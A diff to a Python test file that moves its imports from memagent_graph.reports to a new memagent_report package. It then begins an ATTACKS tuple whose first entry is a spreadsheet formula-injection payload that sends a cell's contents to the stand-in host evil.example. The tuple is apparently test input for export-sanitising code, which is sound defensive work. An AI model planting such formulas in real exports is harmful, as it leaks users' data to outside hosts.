@@ -19,12 +19,12 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from memagent_graph import EventKind, RunError
-from memagent_graph.reports import bibliography
-from memagent_graph.reports.bibliography import bibtex
-from memagent_graph.reports.checked_report import Report, checked_report
-from memagent_graph.reports.docx_export import docx_bytes
-from memagent_graph.reports.drafts import Draft, DraftSection, DraftSentence, ReportMode, extractive_draft
-from memagent_graph.reports.evidence_matrix import (
+from memagent_report import bibliography
+from memagent_report.bibliography import bibtex
+from memagent_report.checked_report import Report, checked_report
+from memagent_report.docx_export import docx_bytes
+from memagent_report.drafts import Draft, DraftSection, DraftSentence, ReportMode, extractive_draft
+from memagent_report.evidence_matrix import (
     Cell,
     CellState,
     EvidenceMatrix,
@@ -32,11 +32,11 @@ from memagent_graph.reports.evidence_matrix import (
     ReportDocument,
     SourceQuote,
 )
-from memagent_graph.reports.export_safety import markdown_text, spreadsheet_cell, without_folders
-from memagent_graph.reports.matrix_export import matrix_csv, matrix_parquet
-from memagent_graph.reports.report_data import ReportEvent
-from memagent_graph.reports.report_files import write_report
-from memagent_graph.reports.source_text import SourceText
+from memagent_report.export_safety import markdown_text, spreadsheet_cell, without_folders
+from memagent_report.matrix_export import matrix_csv, matrix_parquet
+from memagent_report.report_data import ReportEvent
+from memagent_report.report_files import write_report
+from memagent_report.source_text import SourceText
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/"&A1,"click")',
